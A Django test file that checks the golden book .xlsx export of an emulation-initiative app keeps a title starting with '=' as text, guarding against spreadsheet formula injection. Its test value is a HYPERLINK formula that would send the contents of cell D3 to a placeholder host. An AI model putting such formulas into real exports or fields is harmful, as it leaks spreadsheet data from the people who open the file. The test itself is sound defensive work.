"""The golden book's .xlsx keeps an initiative's typed title as text (issue 16 item 1)."""

import io

import openpyxl
from django.urls import reverse

from thidua.initiatives import services
from thidua.initiatives.models import Initiative
from thidua.initiatives.tests.conftest import DAY, council_for, pass_council

TITLE = '=HYPERLINK("http://example.invalid/?x="&D3,"Bấm")'


def test_a_title_starting_with_equals_stays_text_in_the_golden_book(login, people, federation, initiative, team):
    Initiative.objects.filter(pk=initiative.pk).update(title=TITLE)
    initiative.refresh_from_db()
    chair = people["school_chair"]
    services.submit(people["author"], initiative, on=DAY)
    services.send_to_council(chair, initiative)
    council = council_for(federation.school, chair, ["Hoàng Văn Chủ", "Trịnh Văn Năm", "Lê Văn Sáu"])
    pass_council(chair, council, initiative)
    services.issue_recognition_decision(
        chair, unit=federation.school, initiative_ids=[initiative.pk], issued_on=DAY, signer_name="Hoàng Văn Chủ"
    )
    response = login(people["lb_officer"]).get(
        reverse("initiatives:golden_book_file", args=[federation.school.pk, "xlsx"])
    )
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    title = sheet.cell(row=3, column=3)
    assert (title.value, title.data_type) == (TITLE, "s")
